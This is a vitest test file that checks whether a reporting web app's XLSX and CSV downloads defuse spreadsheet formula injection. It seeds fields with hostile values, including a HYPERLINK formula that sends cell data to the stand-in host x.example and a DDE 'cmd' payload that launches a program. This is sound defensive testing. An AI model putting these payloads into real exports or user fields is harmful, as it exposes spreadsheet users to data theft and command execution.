import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { presentPeriod } from '../../../src/demo/fill-demo-round.ts';
import { measureAddress, periodAddress } from '../../../src/web/addresses.ts';
import { site as host } from './browser.ts';
import type { DemoSite } from './demo-site.ts';
import { hostileSite } from './hostile-site.ts';

/** Texts that a spreadsheet would take for something to work out. */
const formulas = {
  title: '=HYPERLINK("http://x.example/?"&A1,"press")',
  meaning: "+1+cmd|' /C calc'!A1",
  formula: '@SUM(1+1)*cmd',
  source: '-2+3+cmd',
  person: '=1+1',
  post: '+44 1332',
  directorate: '@Place',
} as const;
const notes = [
  '=1+1',
  '+1',
  '-1+2',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1',
  ';=1+1',
  '|=1',
];

let site: DemoSite;
let measure = '';
beforeAll(async () => {
  const begun = await hostileSite({ ...formulas } as unknown as Parameters<typeof hostileSite>[0]);
  site = begun.site;
  measure = begun.measure;
});
afterAll(() => site?.end());

/** A cell that a spreadsheet would not show as the text it is. */
const isFormula = (cell: string) =>
  /^[\s";|]*[=+@＝＋＠]/.test(cell) || (/^\s*-/.test(cell) && !/^-[\d.]+$/.test(cell));

async function download(person: string, path: string): Promise<{ bytes: Buffer; type: string }> {
  const browser = await site.signIn(person);
  const answer = await site.server.inject({
    url: path,
    headers: { host: new URL(host).host, cookie: `outturn=${browser.cookie()}` },
  });
  expect(`${path} ${answer.statusCode}`).toBe(`${path} 200`);
  return { bytes: answer.rawPayload, type: String(answer.headers['content-type']) };
}

/** The note beside a figure is typed by an officer, and goes into the series once it is approved. */
async function enter(note: string): Promise<void> {
  const at = `${periodAddress(presentPeriod)}/${measureAddress(measure)}`;
  const [tom, judith] = [await site.signIn('tom.venables'), await site.signIn('judith.shah')];
  const [update, approve] = [`/update/${at}`, `/approve/${at}`];
  const texts = { context: note, actions: note, intervention: note };
  const form = { ...texts, note, actual: '12', toDate: '12', forecast: '13', do: 'submit' };
  const sent = await tom.send(await tom.get(update), update, form);
  expect(sent.status).toBe(200);
  await judith.send(await judith.get(approve), approve, { note: '', do: 'approve' });
}

describe('texts that a spreadsheet would take for formulas', () => {
  it.each([
    ['tom.venables', `/bulk/${periodAddress(presentPeriod)}/template.xlsx`],
    ['colin.webb', '/set-up/import/template/updates/download'],
    ['colin.webb', '/set-up/import/template/targets/download'],
    ['colin.webb', '/set-up/import/template/measures/download'],
  ])('are texts in the workbook that %s gets at %s', async (person, path) => {
    const { bytes } = await download(person, path);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const texts: string[] = [];
    const wrong: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          texts.push(cell.text);
          if (cell.type === ExcelJS.ValueType.Formula && /HYPERLINK\("http|cmd/.test(cell.formula)) {
            wrong.push(`${sheet.name} ${cell.address}: ${cell.formula}`);
          }
        }),
      ),
    );
    expect(wrong).toEqual([]);
    expect(texts.join('\n')).toContain('HYPERLINK("http');
  });

  it('are texts in the series of a measure', async () => {
    await enter(notes.join('\n'));
    const { bytes } = await download('colin.webb', `/measures/${measureAddress(measure)}/series.csv`);
    const rows: string[][] = parse(bytes, { bom: true, relax_column_count: true });
    const cells = rows.flat();
    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
    expect(cells.some((cell) => cell.includes('@SUM(A1)'))).toBe(true);
    expect(cells.filter(isFormula)).toEqual([]);
  });
});
